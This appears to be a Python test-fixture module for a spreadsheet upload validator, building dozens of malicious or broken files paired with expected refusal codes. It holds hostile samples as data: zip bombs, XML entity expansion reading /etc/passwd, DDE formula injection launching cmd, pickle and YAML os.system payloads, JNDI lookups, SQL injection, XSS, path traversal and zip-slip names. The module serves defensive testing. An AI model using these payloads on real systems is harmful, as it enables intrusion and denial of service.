"""More than sixty files that mean harm or are broken, with what is said of each.

``REFUSED`` gives the code of the sentence; ``READ`` are read as plain values, whatever they say.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

from openpyxl import Workbook

if TYPE_CHECKING:
    from collections.abc import Callable

SHEET = "xl/worksheets/sheet1.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEAD = b"Case No,Date opened,Remarks\n"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY e SYSTEM "file:///etc/passwd">]>'
)
ODS = (
    b'<?xml version="1.0"?>%s<office:document-content '
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
    b'<office:spreadsheet><table:table table:name="cases"><table:table-row%s><table:table-cell%s '
    b'office:value-type="string"><text:p>%s</text:p></table:table-cell></table:table-row>'
    b"</table:table></office:spreadsheet></office:body></office:document-content>"
)


def workbook(*cells: object) -> bytes:
    """A sound .xlsx with headings and one row."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Case No", "Date opened", "Remarks"])
    sheet.append(["A/1", "2021-05-06", *cells])
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def changed(
    part: str = SHEET,
    change: Callable[[bytes], bytes] = bytes,
    more: dict[str, bytes] | None = None,
    without: str = "",
) -> bytes:
    """A sound .xlsx with one part changed, parts added, or one left out."""
    source = zipfile.ZipFile(io.BytesIO(workbook("x")))
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            if name != without:
                content = source.read(name)
                archive.writestr(name, change(content) if name == part else content)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return kept.getvalue()


def in_sheet(rows: bytes) -> bytes:
    """A sound .xlsx with more rows, as they stand in its XML."""
    return changed(change=lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))


def ods(
    row: bytes = b"", cell: bytes = b"", words: bytes = b"x", lead: bytes = b"", **more: bytes
) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        kind = "application/vnd.oasis.opendocument.spreadsheet"
        archive.writestr("mimetype", kind, zipfile.ZIP_STORED)
        archive.writestr("content.xml", ODS % (lead, row, cell, words))
        archive.writestr("META-INF/manifest.xml", more.pop("manifest", b"<manifest/>"))
        for name, content in more.items():
            archive.writestr(name.replace("__", "/"), content)
    return kept.getvalue()


def archive(members: dict[str, bytes], flags: int = 0) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    marked = bytearray(kept.getvalue())
    if flags:
        at = marked.find(b"PK\x01\x02")
        while at >= 0:
            marked[at + 8] |= flags
            at = marked.find(b"PK\x01\x02", at + 4)
    return bytes(marked)


def liar() -> bytes:
    """The table of contents says 10 bytes; the part holds ten million."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"\0" * 10_000_000) + packer.flush()
    name = SHEET.encode()
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(packed), 10, len(name), 0)
    local = b"PK\x03\x04" + head + name + packed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0)
    size, start = len(central) + len(name), len(local)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, size, start, 0)
    return local + central + name + end


def record(kind: int, content: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def xls(*, before: bytes = b"", sheet_kind: int = 0, more: bytes = b"") -> bytes:
    """An old workbook (BIFF8) with one sheet, written by hand into its container."""
    bof = b"\x00\x06%s\x00\xbb\x0d\xcc\x07\x00\x00\x00\x00\x06\x00\x00\x00"
    start = record(0x809, bof % b"\x05") + before
    name = b"cases"
    bound = len(start) + 4 + 8 + len(name) + 4
    sheet = struct.pack("<IBBBB", bound, 0, sheet_kind, len(name), 0) + name
    body = start + record(0x85, sheet) + record(0x0A)
    body += record(0x809, bof % b"\x10")
    body += record(0x200, struct.pack("<IIHHH", 0, 2, 0, 2, 0))
    for row, words in enumerate((("Case No", "Opened"), ("A/1", "2021-05-06"))):
        for column, word in enumerate(words):
            told = struct.pack("<HHHHB", row, column, 0, len(word), 0) + word.encode()
            body += record(0x204, told)
    return container("Workbook", body + more + record(0x0A))


def container(name: str, stream: bytes) -> bytes:
    """A compound file with one stream of at least 4096 bytes."""
    stream = stream.ljust(max(4096, -(-len(stream) // 512) * 512), b"\0")
    sectors = len(stream) // 512
    free, end, table = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat = [table, end, *range(3, 2 + sectors), end]
    fat += [free] * (128 - len(fat))
    header = OLE + b"\0" * 16 + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    entries = _entry("Root Entry", 5, 1, end, 0) + _entry(name, 2, free, 2, len(stream))
    entries += _entry("", 0, free, 0, 0) * 2
    return header + struct.pack("<128I", *fat) + entries + stream


def _entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
    written = name.encode("utf-16-le")
    free = 0xFFFFFFFF
    length = len(written) + 2 if name else 0
    told = written.ljust(64, b"\0") + struct.pack("<HBB", length, kind, 1)
    told += struct.pack("<III", free, free, child) + b"\0" * 36
    return told + struct.pack("<IQ", start, size)


REFUSED: dict[str, tuple[bytes, str]] = {
    "empty.csv": (b"", "empty"),
    "blank.csv": (b"\n\n , \n", "no_sheet"),
    "picture.csv": (b"\x89PNG\r\n\x1a\n" + HEAD, "not_what_it_says"),
    "photo.tsv": (b"\xff\xd8\xff\xe0" + HEAD, "not_what_it_says"),
    "paper.csv": (b"%PDF-1.7\n/OpenAction /JS", "not_what_it_says"),
    "form.xlsx": (b"%PDF-1.7", "not_what_it_says"),
    "program.csv": (b"MZ\x90\x00" + HEAD, "not_what_it_says"),
    "program.xls": (b"\x7fELF\x02\x01", "not_what_it_says"),
    "packed.csv": (b"\x1f\x8b\x08" + HEAD, "not_what_it_says"),
    "base.csv": (b"SQLite format 3\x00", "not_what_it_says"),
    "rar.csv": (b"Rar!\x1a\x07" + HEAD, "not_what_it_says"),
    "seven.csv": (b"7z\xbc\xaf\x27\x1c", "not_what_it_says"),
    "letter.csv": (b"{\\rtf1 {\\object\\objdata 01}}", "not_what_it_says"),
    "page.csv": (b"<!DOCTYPE html><script>alert(1)</script>", "not_what_it_says"),
    "page.xls": (b"\xef\xbb\xbf <html><table><tr><td>A</td></tr></table>", "not_what_it_says"),
    "old.xls": (b'<?xml version="1.0"?><?mso-application "Excel.Sheet"?>', "not_what_it_says"),
    "drawing.csv": (b'<svg onload="alert(1)"/>', "not_what_it_says"),
    "mail.xls": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "not_what_it_says"),
    "text.xlsx": (HEAD, "not_what_it_says"),
    "book.csv": (workbook("x"), "not_what_it_says"),
    "book.ods": (workbook("x"), "not_what_it_says"),
    "folder.xlsx": (archive({"a.txt": b"x"}), "not_what_it_says"),
    "other.xls": (OLE + b"\0" * 600, "not_what_it_says"),
    "zeroes.csv": (HEAD + b"a\0b\0\0\0\0c", "binary"),
    "controls.csv": (bytes(range(32)) * 9, "binary"),
    "pickle.csv": (b"\x80\x04cposix\nsystem\n(S'true'\ntR.\x00\x01\x02\x03\x05", "binary"),
    "wide.csv": ("Case No,Opened\n".encode("utf-32"), "binary"),
    "half.csv": (b"\xff\xfea", "encoding"),
    "surrogate.csv": (b"\xff\xfe\x00\xd8a\x00", "encoding"),
    "columns.csv": (b"," * 5_000 + b"\nx\n", "too_wide"),
    "long.csv": (HEAD + b'"' + b"x" * 1_200_000 + b'"\n', "damaged"),
    "letter.docx": (b"PK\x03\x04", "unknown_kind"),
    "register.csv.exe": (HEAD, "unknown_kind"),
    "register": (HEAD, "unknown_kind"),
    "\u202exslx.exe": (HEAD, "unknown_kind"),
    "bomb.xlsx": (changed(more={"xl/media/a.bin": b"\0" * 20_000_000}), "bomb"),
    "liar.xlsx": (liar(), "bomb"),
    "crowd.xlsx": (changed(more={f"xl/media/{n}": b"" for n in range(5_100)}), "bomb"),
    "far.xlsx": (in_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "too_far"),
    "farther.xlsx": (in_sheet(b'<row r="900000"><c r="NT900000"><v>1</v></c></row>'), "too_far"),
    "far_single.xlsx": (in_sheet(b"<row r='9'><c r='XFD1048576'/></row>"), "too_far"),
    "far_blanks.xlsx": (in_sheet(b'<row><c r = "XFD1048576"><v>1</v></c></row>'), "too_far"),
    "far_padded.xlsx": (in_sheet(b'<c s="0"%s r="XFD1048576"/>' % (b" " * 9_000)), "too_far"),
    "far_masked.xlsx": (in_sheet(b"""<c s=">" t="r='A1'" r="XFD1048576"/>"""), "too_far"),
    "far_unclear.xlsx": (in_sheet(b"""<c s="<" r="XFD1048576"/>"""), "damaged"),
    "far_prefix.xlsx": (in_sheet(b'<x:row><x:c r="XFD1048576"/></x:row>'), "too_far"),
    "far_unnamed.xlsx": (
        changed(
            more={
                "xl/other.xml": b'<worksheet><sheetData><c r="XFD1048576"/></sheetData></worksheet>'
            }
        ),
        "too_far",
    ),
    "far_row.xlsx": (
        in_sheet(b'<row r="1048576">' + b"<c><v>1</v></c>" * 300 + b"</row>"), "too_far"
    ),
    "far_sheet.xlsx": (
        changed(
            "xl/workbook.xml",
            lambda xml: xml.replace(b'"', b"'"),
            {SHEET: b"<worksheet><sheetData><c r='XFD1048576'/></sheetData></worksheet>"},
            SHEET,
        ),
        "too_far",
    ),
    "repeated1.ods": (
        ods(b" table:number-rows-repeated = '1000000'", b" table:number-columns-repeated='900'"),
        "too_far",
    ),
    "repeated.ods": (
        ods(b' table:number-rows-repeated="1000000"', b' table:number-columns-repeated="900"'),
        "too_far",
    ),
    "torn.xlsx": (workbook("x")[:900], "damaged"),
    "words.xlsx": (b"PK\x03\x04 and then nothing", "damaged"),
    "headless.xlsx": (changed(without="xl/workbook.xml"), "no_sheet"),
    "entities.ods": (ods(lead=LAUGHS, words=b"&e;&c;"), "damaged"),
    "torn.xls": (OLE + "Workbook".encode("utf-16-le") + b"\0" * 600, "damaged"),
    "macros.xlsx": (changed(more={"xl/vbaProject.bin": b"Sub AutoOpen()"}), "macros"),
    "macros.xlsm": (changed(more={"xl/vbaProject.bin": b"Sub AutoOpen()"}), "macros"),
    "macros4.xlsx": (changed(more={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "macros.xls": (OLE + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600, "macros"),
    "macros4.xls": (xls(sheet_kind=1), "macros"),
    "macros.ods": (ods(Basic__Standard__Module1=b"Sub Main"), "macros"),
    "locked.xlsx": (OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600, "password"),
    "locked.xls": (xls(before=record(0x2F, b"\x00\x00\x01\x02\x03\x04")), "password"),
    "locked.ods": (ods(manifest=b"<m><encryption-data/></m>"), "password"),
    "lockedzip.xlsx": (archive({"[Content_Types].xml": b"x", "xl/a": b"y"}, flags=1), "password"),
}  # fmt: skip

READ: dict[str, bytes] = {
    "old.xls": xls(),
    "formulas.csv": HEAD + b"\"=cmd|' /C calc'!A0\",@SUM(1),\"+1+1\"\n-2+3,=1+1,|x\n",
    "separator.csv": b"sep=;\nCase No;Opened\nA/1;2021-05-06\n",
    "unclosed.csv": HEAD + b'"A/1,2021-05-06,x\nA/2,2021-05-07,y\n',
    "markup.csv": b"<script>alert(1)</script>,\"<img src=x onerror=alert(1)>\"\nA/1,2021-05-06\n",
    "database.csv": HEAD + b"'; DROP TABLE cases_case; --,2021-05-06,\" OR 1=1\n",
    "turned.csv": "Case No,\u202egnp.denepo\u202c\u200b\ufeff\nA/1,2021-05-06\n".encode(),
    "templates.csv": HEAD + b"{{7*7}},${jndi:ldap://x/y},%s%n\n",
    "objects.csv": b"!!python/object/apply:os.system ['true'],\"a: [b\n# c\"\nA/1,2021-05-06\n",
    "paths.csv": HEAD + b"../../etc/passwd,C:\\Windows\\System32,file:///etc/passwd\n",
    "script.csv": "Case No,Opened\n\U0001f600\u0661\u0662,9999-12-31\n".encode("utf-16"),
    "same.csv": b"Case No,Case No,Case No\nA/1,A/2,A/3\n",
    "ragged.csv": HEAD + b"A/1\nA/2,2021-05-06,x,y,z,,,,\n\n,,,\n",
    "newlines.csv": b"Case No,Opened\rA/1,2021-05-06\r",
    "entities.xlsx": changed(
        change=lambda xml: LAUGHS + xml[xml.index(b"<worksheet") :].replace(b"<v>0<", b"<v>&e;&c;<")
    ),
    "table.ods": ods(),
    "declared.ods": ods(lead=LAUGHS),
    "deep.xlsx": in_sheet(b"<a>" * 100_000 + b"</a>" * 100_000),
    "dde.xlsx": changed(
        change=lambda xml: xml.replace(b"<v>0</v>", b"<f>cmd|'/C calc'!A0</f><v>0</v>", 1),
        more={"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'},
    ),
    "link.xlsx": workbook('=HYPERLINK("javascript:alert(1)","open")'),
    "outside.xlsx": changed(more={"../../../tmp/amparo-was-here": b"x", "/etc/amparo": b"x"}),
    "dates.xlsx": in_sheet(
        b'<row r="3"><c r="A3" s="1"><v>1e308</v></c><c r="B3"><v>NaN</v></c></row>'
    ),
    "unplaced.xlsx": in_sheet(b"<row><c><v>1</v></c><c/></row>" * 3_000),
    "claims.xlsx": changed(change=lambda xml: xml.replace(b"A1:C2", b"A1:XFD1048576")),
}  # fmt: skip
